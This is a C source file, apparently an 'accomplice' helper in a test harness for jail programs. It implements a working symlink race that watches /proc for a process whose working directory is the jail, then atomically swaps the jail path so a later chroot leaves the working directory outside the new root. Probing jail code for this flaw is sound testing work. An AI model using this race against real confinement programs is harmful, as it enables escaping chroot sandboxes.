/*
 * path-race accomplice: someone who controls a symlink on the jail's path.
 * It moves the jail to <jail>.real and makes <jail> a symlink to it. When a
 * process's working directory becomes <jail>.real (the jail program did
 * chdir(jail)), it points the symlink at <jail>.real/inner, a copy-like
 * subdirectory: a later chroot(jail) then resolves to the inner directory and
 * the working directory is left above the new root.
 */
#include "probe.h"
#include <dirent.h>
#include <ftw.h>
#include <sys/stat.h>
#include <time.h>

static int rm_entry(const char *p, const struct stat *st, int type, struct FTW *f) {
  (void)st, (void)f;
  return type == FTW_DP ? rmdir(p) : unlink(p);
}

static int cwd_is(const char *want) {
  DIR *d = opendir("/proc");
  if (!d) return 0;
  struct dirent *e;
  int hit = 0;
  while (!hit && (e = readdir(d))) {
    if (e->d_name[0] < '1' || e->d_name[0] > '9') continue;
    char link[64], target[512];
    snprintf(link, sizeof link, "/proc/%s/cwd", e->d_name);
    ssize_t n = readlink(link, target, sizeof target - 1);
    if (n <= 0) continue;
    target[n] = 0;
    hit = strcmp(target, want) == 0;
  }
  closedir(d);
  return hit;
}

int main(int argc, char **argv) {
  if (argc < 2) return 1;
  const char *jail = argv[1];
  char real[256], inner[300], innerbin[320], from[320], to[340], tmp[280];
  snprintf(real, sizeof real, "%s.real", jail);
  snprintf(inner, sizeof inner, "%s/inner", real);
  snprintf(innerbin, sizeof innerbin, "%s/bin", inner);
  snprintf(from, sizeof from, "%s/bin/path-race", real);
  snprintf(to, sizeof to, "%s/path-race", innerbin);
  snprintf(tmp, sizeof tmp, "%s.swap", jail);
  nftw(real, rm_entry, 16, FTW_DEPTH | FTW_PHYS);
  if (rename(jail, real) != 0 || symlink(real, jail) != 0) return 1;
  mkdir(inner, 0755);
  mkdir(innerbin, 0755);
  link(from, to);
  accomplice_ready();
  struct timespec start, now;
  clock_gettime(CLOCK_MONOTONIC, &start);
  for (;;) {
    if (cwd_is(real)) {
      unlink(tmp);
      symlink(inner, tmp);
      rename(tmp, jail); /* atomic: the jail's path now leads to the inner directory */
      break;
    }
    clock_gettime(CLOCK_MONOTONIC, &now);
    if (now.tv_sec - start.tv_sec > 10) break;
    usleep(1000);
  }
  accomplice_wait();
}
